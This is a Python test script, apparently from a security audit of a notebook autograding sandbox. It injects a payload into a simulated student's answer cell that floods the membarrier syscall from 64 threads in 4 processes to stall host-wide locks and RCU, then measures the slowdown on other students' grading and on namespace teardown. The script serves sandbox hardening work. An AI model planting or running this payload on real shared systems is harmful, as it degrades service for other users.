"""a12: membarrier() is allowed in the sandbox (a01: QUERY answers every command). Since CVE-2024-26602's fix its
expedited commands take one host-wide mutex (membarrier_ipi_mutex), and MEMBARRIER_CMD_GLOBAL waits a full RCU grace
period. Mallory runs 64 threads in 4 processes calling GLOBAL, GLOBAL_EXPEDITED (after registering) and
PRIVATE_EXPEDITED for 30 s; a host prober times `unshare -n true` (network namespaces wait on RCU as they are torn
down) and zoe and zz are graded after her; against the same class with an honest mallory."""
import sys, json, time, threading, subprocess
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
from tools.submissions import solution_text

PAYLOAD = r'''
import os, ctypes, threading, time
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
libc.syscall(324, 2, 0, 0)   # REGISTER_GLOBAL_EXPEDITED
libc.syscall(324, 16, 0, 0)  # REGISTER_PRIVATE_EXPEDITED
counts = [0, 0, 0]
def spin(cmd, i):
    end = time.time() + 30
    while time.time() < end:
        libc.syscall(324, cmd, 0, 0); counts[i] += 1
pids = []
for k in range(4):
    pid = os.fork()
    if pid == 0:
        ts = [threading.Thread(target=spin, args=(c, i)) for j in range(5) for i, c in enumerate((1, 2, 8))]
        [t.start() for t in ts]; [t.join() for t in ts]
        print("proc", k, "calls GLOBAL/GLOBAL_EXP/PRIVATE_EXP:", counts, flush=True); os._exit(0)
    pids.append(pid)
for p in pids: os.waitpid(p, 0)
'''
sol = {c.metadata.nbgrader.grade_id: solution_text(c) for c in nbformat.read(f"{CLONE}/source/ps1_memory/ps1_memory.ipynb", 4).cells
       if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
def prober(stop, out):
    while not stop.is_set():
        t = time.time(); subprocess.run(["unshare", "-n", "true"]); out.append(time.time() - t); time.sleep(0.2)
for label, ov in (("honest mallory (control)", {}), ("membarrier flood", {"quiz_q1": PAYLOAD + "\n" + sol["quiz_q1"]})):
    print("=====", label, flush=True)
    stop, out = threading.Event(), []
    th = threading.Thread(target=prober, args=(stop, out)); th.start()
    d, r, sc = run_class("a12", "ps1_memory", {"mallory": ov}, controls=("aaron", "zoe", "zz"))
    stop.set(); th.join()
    rep = json.load(open(f"{d}/grading_report.json"))
    print("seconds:", {x["student"]: round(x["seconds"], 1) for x in rep})
    print("unshare -n: n=%d max %.3f s median %.3f s" % (len(out), max(out), sorted(out)[len(out) // 2]))
    if ov:
        nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
                print("mallory's cell said:", "".join(o.get("text", "") for o in c.outputs)[:800])
